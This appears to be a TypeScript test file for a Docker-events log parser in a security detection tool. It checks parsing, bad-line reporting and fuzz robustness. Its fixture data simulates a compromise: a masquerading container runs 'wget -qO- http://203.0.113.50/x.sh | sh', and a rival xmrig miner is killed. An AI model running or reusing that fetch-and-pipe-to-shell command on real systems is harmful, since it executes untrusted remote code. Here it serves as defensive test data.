import assert from 'node:assert/strict';
import { test } from 'node:test';
import { cutLineCase, fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from './contract.js';
import { dockerEvents } from './docker-events.js';
import { sniffSource } from './index.js';

const good = fileInput('test/fixtures/docker-events/good.jsonl', { hostHint: 'build-07' });
const bad = fileInput('test/fixtures/docker-events/bad.jsonl');
runSourceContract({
  source: dockerEvents,
  good,
  bad,
  // the file copied while the kill was written: it ends inside the signal's value
  cut: cutLineCase(good, 6, '"signal":"', 'SIGKI'),
});

test('container lifecycle, exec and image pull are container-seen events; network and volume are unused', async () => {
  const { events } = await readAll(dockerEvents, good);
  assert.deepEqual(
    events.map((e) => [e.event.dataset, e.coalmine.workload?.verb, e.container?.name]),
    [
      ['docker-events.image', 'pull', undefined],
      ['docker-events.container', 'create', 'kworker-update'],
      ['docker-events.container', 'start', 'kworker-update'],
      ['docker-events.container', 'exec_create: sh -c wget -qO- http://203.0.113.50/x.sh | sh', 'kworker-update'],
      ['docker-events.container', 'exec_start: sh -c wget -qO- http://203.0.113.50/x.sh | sh', 'kworker-update'],
      ['docker-events.container', 'kill', 'rival-miner'],
      ['docker-events.container', 'die', 'rival-miner'],
      ['docker-events.container', 'destroy', 'rival-miner'],
      ['docker-events.container', 'start', 'k8s_nginx_web-7d9f8c6b5-x2k4q_shop_b1f0c2de_0'],
      ['docker-events.container', 'stop', 'k8s_nginx_web-7d9f8c6b5-x2k4q_shop_b1f0c2de_0'],
    ],
  );
  let unused = 0;
  for await (const batch of dockerEvents.read(good, TEST_CONTEXT)) unused += batch.unused ?? 0;
  assert.equal(unused, 2);
  for (const e of events) {
    assert.equal(e.event.action, 'container-seen');
    assert.equal(e.event.kind, 'event');
    assert.deepEqual(e.host, { name: 'build-07' });
  }
});

test('an exec keeps its command; time is timeNano to the millisecond; the pull names the image', async () => {
  const { events } = await readAll(dockerEvents, good);
  const exec = events[4];
  assert.equal(exec['@timestamp'], '2025-12-01T02:10:02.017Z');
  assert.deepEqual(exec.coalmine.workload, {
    verb: 'exec_start: sh -c wget -qO- http://203.0.113.50/x.sh | sh',
    kind: 'Container',
    name: 'kworker-update',
    execCommand: ['sh', '-c', 'wget', '-qO-', 'http://203.0.113.50/x.sh', '|', 'sh'],
  });
  assert.deepEqual(exec.container, {
    runtime: 'docker',
    id: '5f3c9a1e7b2d4c6f8a0e1b3d5f7a9c2e4b6d8f0a1c3e5b7d9f1a3c5e7b9d1f3a',
    name: 'kworker-update',
    image: { name: 'alpine', tag: '3.19' },
  });
  assert.deepEqual(events[0].container, { runtime: 'docker', image: { name: 'alpine', tag: '3.19' } });
  assert.deepEqual(events[0].coalmine.workload, { verb: 'pull', kind: 'Image' });
});

test('a kill keeps its signal and a die its exit code in original; a pod container names its pod', async () => {
  const { events } = await readAll(dockerEvents, good);
  const kill = events[5].original.Actor as { Attributes: Record<string, string> };
  const die = events[6].original.Actor as { Attributes: Record<string, string> };
  assert.equal(kill.Attributes.signal, '9');
  assert.equal(die.Attributes.exitCode, '137');
  assert.deepEqual(events[5].container?.image, { name: 'xmrig/xmrig', tag: 'latest' });
  const pod = events[8];
  assert.deepEqual(pod.orchestrator, { namespace: 'shop', resource: { type: 'pod', name: 'web-7d9f8c6b5-x2k4q' } });
  assert.equal(pod.coalmine.workload?.namespace, 'shop');
  // Attributes.image (what the container runs) wins over `from`
  assert.deepEqual(pod.container?.image, {
    name: 'nginx',
    hash: { all: ['sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31'] },
  });
});

test('every bad line is reported with its line and a reason; the good ones around it are read', async () => {
  const { events, issues } = await readAll(dockerEvents, bad);
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [
      [2, 'DOCKER_EVENTS_BAD_JSON'],
      [3, 'DOCKER_EVENTS_BAD_RECORD'],
      [4, 'DOCKER_EVENTS_BAD_RECORD'],
      [5, 'DOCKER_EVENTS_BAD_RECORD'],
      [6, 'DOCKER_EVENTS_BAD_RECORD'],
    ],
  );
  assert.deepEqual(
    events.map((e) => e.container?.name),
    ['kworker-update', 'ok-after-bad'],
  );
});

test('fuzz: random cuts and byte flips of the fixture never throw, and every unreadable line is reported', async () => {
  let seed = 7;
  const rand = (n: number) => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed % n;
  };
  const bytes = good.head;
  const lineCount = bytes.toString('utf8').trimEnd().split('\n').length;
  for (let round = 0; round < 60; round++) {
    const copy = Buffer.from(bytes.subarray(0, round % 3 === 0 ? rand(bytes.length) : bytes.length));
    for (let flips = 0; flips < 1 + rand(4); flips++)
      copy[rand(copy.length)] = [0x22, 0x7b, 0x7d, 0x2c, 0x3a, 0x00][rand(6)];
    const input = memoryInput(`fuzz-${round}.jsonl`, copy);
    const { events, issues } = await readAll(dockerEvents, input);
    let unused = 0;
    for await (const batch of dockerEvents.read(input, TEST_CONTEXT)) unused += batch.unused ?? 0;
    const lines = copy
      .toString('utf8')
      .split('\n')
      .filter((l) => l.trim() !== '').length;
    assert.ok(lines <= lineCount);
    // every non-blank line is an event, an unused record or an issue: none vanishes unreported
    assert.equal(events.length + unused + issues.length, lines, `round ${round}`);
  }
});

test('sniffed from its own lines, not taken for generic ndjson', () => {
  assert.equal(sniffSource(good)?.name, 'docker-events');
  assert.equal(dockerEvents.sniff('{"@timestamp":"2026-01-01T00:00:00Z","event":{"action":"exec"}}', { name: 'x' }), 0);
});
